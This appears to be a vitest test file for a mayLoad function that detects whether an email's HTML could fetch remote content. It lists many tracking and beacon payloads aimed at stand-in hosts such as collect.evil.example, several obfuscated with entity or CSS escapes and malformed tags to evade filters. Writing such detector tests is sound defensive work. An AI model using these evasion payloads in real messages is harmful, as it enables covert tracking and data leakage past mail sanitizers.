import { describe, expect, it } from "vitest";
import { mayLoad } from "./may-load.js";

const address = "https://collect.evil.example/?d=4711";

describe("a mail's HTML", () => {
  it.each([
    "Hello <b>Bob</b>,<br>5 < 6 and 7 <= 8 & so on",
    `<p style="color: #333; margin: 0" class='x'>See <a href="https://example.com/?a=1&amp;b=2">this</a></p><hr/>`,
    `<table border="1" width="100%"><tr><td colspan="2">src=x url(y)</td></tr></table>`,
  ])("that only shows text loads nothing: %s", (html) => {
    expect(mayLoad(html)).toBe(false);
  });

  it.each([
    `<img src="https://evil.example/?q=secret">`,
    `<img src=https://evil.example>`,
    `<svg><image href="https://evil.example/?q=secret"/></svg>`,
    `<svg><use xlink:href="https://evil.example/#x"/></svg>`,
    `<p style="background: &#117;rl(https://evil.example)">x</p>`,
    `<p style="background: u\\72l(https://evil.example)">x</p>`,
    `<p style='background: image-set("https://evil.example" 1x)'>x</p>`,
    `<p style="background:url(//evil.example)">x</p>`,
    `<body background="https://evil.example">`,
    `<a href="https://example.com" ping="https://evil.example">x</a>`,
    `<style>@import "https://evil.example";</style>`,
    `<!--[if mso]><v:image src="https://evil.example"/><![endif]-->`,
    `<p title="a>b" style="color:red"><img/src="https://evil.example">`,
    `<<b>img src="https://evil.example">`,
    `<p title="x" <img src="https://evil.example">`,
    `<input type="image" src="x">`,
    `<p`,
    `<img src="${address}">`,
    `<img/src=${address}>`,
    `<img lowsrc="${address}">`,
    `<IMG\nSRC\n=\n"${address}">`,
    `<table background="${address}"><tr><td>Hi</table>`,
    `<p style="background:url(${address})">Hi</p>`,
    `<p style="background:u&#114;l(${address})">Hi</p>`,
    `<p style="background:u\\72l(${address})">Hi</p>`,
    `<p style=background:u&#x72;l(${address})>Hi</p>`,
    `<p title='style="' style="background:u&#114;l(${address})">Hi</p>`,
    `<p style="color: red; style= x; background:u&#114;l(${address})">Hi</p>`,
    `<style>p { color: red } <style> p { background: u\\72l(${address}) }</style>`,
    `<style>@\\69mport "${address}";</style>Hi`,
    `<style>p { background: image-set("${address}" 1x) }</style><p>Hi</p>`,
    `<style>@media all { p { color: red } }`,
    `<svg><image href="${address}"/></svg>`,
    `<svg><use xlink:href="${address}#a"/></svg>`,
    `<v:fill type="frame" o:href="${address}"/>`,
    `<!--[if mso]><v:fill src="${address}"/><![endif]-->`,
    `<link rel="stylesheet" href="${address}">`,
    `<meta http-equiv="refresh" content="0;url=${address}">`,
    `<?import namespace="x" implementation="${address}">`,
  ])("that might load something counts as if it did: %s", (html) => {
    expect(mayLoad(html)).toBe(true);
  });

  it("is read in one pass, whatever it holds", () => {
    for (const part of ["<", "<p ", `<p title="`, `<p class="a" `, "<b>", "< "]) {
      expect(mayLoad(part.repeat(1_000_000 / part.length))).toBeTypeOf("boolean");
    }
  });
});
